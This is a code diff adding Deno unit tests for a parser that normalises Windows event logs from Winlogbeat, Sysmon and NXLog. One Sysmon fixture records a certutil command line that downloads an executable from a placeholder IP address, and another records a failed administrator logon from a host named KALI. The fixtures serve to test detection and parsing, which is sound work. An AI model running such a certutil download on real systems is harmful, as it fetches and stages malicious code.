@@ -190,6 +190,58 @@ for (const c of CASES) {
   });
 }
 
+Deno.test("windows shippers: a Winlogbeat record its modules processed (EventData moved to ECS: process.*, source.*, user.*) reads the same", () => {
+  const sysmon = {
+    "@timestamp": "2026-11-24T10:05:00.000Z",
+    event: { code: "1", module: "sysmon", category: ["process"] },
+    winlog: {
+      channel: "Microsoft-Windows-Sysmon/Operational",
+      event_id: "1",
+      computer_name: "WS01",
+      event_data: { IntegrityLevel: "Medium", ParentUser: "CORP\\bob" },
+    },
+    process: {
+      pid: 4242,
+      executable: "C:\\Windows\\System32\\certutil.exe",
+      command_line:
+        "certutil.exe -urlcache -split -f http://203.0.113.80/a.exe a.exe",
+      hash: { sha256: "ab".repeat(32) },
+      parent: { pid: 4100, executable: "C:\\Windows\\System32\\cmd.exe" },
+    },
+    user: { name: "bob", domain: "CORP" },
+  };
+  const e = parseOne(sysmon) as EnrichedEvent;
+  const want = {
+    action: "process_start",
+    user: { name: "bob", domain: "CORP" },
+    process: {
+      name: "certutil.exe",
+      pid: 4242,
+      parent: { name: "cmd.exe", pid: 4100 },
+      hash: { sha256: "ab".repeat(32) },
+    },
+    fields: {
+      Image: "C:\\Windows\\System32\\certutil.exe",
+      CommandLine:
+        "certutil.exe -urlcache -split -f http://203.0.113.80/a.exe a.exe",
+      User: "CORP\\bob",
+    },
+  };
+  assert.deepEqual(pick(e, want), want);
+  const security = {
+    ...WINLOGBEAT_4625,
+    winlog: {
+      ...WINLOGBEAT_4625.winlog,
+      event_data: { TargetUserName: "administrator", LogonType: "3" },
+    },
+    source: { ip: "198.51.100.7", port: 49999, domain: "KALI" },
+  };
+  const f = parseOne(security) as EnrichedEvent;
+  assert.deepEqual(f.source?.ip, "198.51.100.7");
+  assert.equal(f.fields.IpAddress, "198.51.100.7");
+  assert.equal(f.fields.WorkstationName, "KALI");
+});
+
 Deno.test("windows shippers: the windows_evtx hint takes Winlogbeat and NXLog events too", () => {
   for (const p of [WINLOGBEAT_4625, NXLOG_4625]) {
     const r = parseOne(p, { format: "windows_evtx" }) as EnrichedEvent;
@@ -202,6 +254,14 @@ Deno.test("windows shippers: other JSON with a Channel key, or a winlog without 
   for (
     const p of [
       { Channel: "general", user: "bob", text: "hi" },
+      // Channel, SourceName and EventID alone: no NXLog key, no GUID.
+      {
+        Channel: "general",
+        SourceName: "slackbot",
+        EventID: 42,
+        user: "bob",
+        src_ip: "203.0.113.9",
+      },
       { winlog: { note: "x" }, message: "y" },
       { winlog: { channel: "Security", event_id: "n/a" } },
     ]
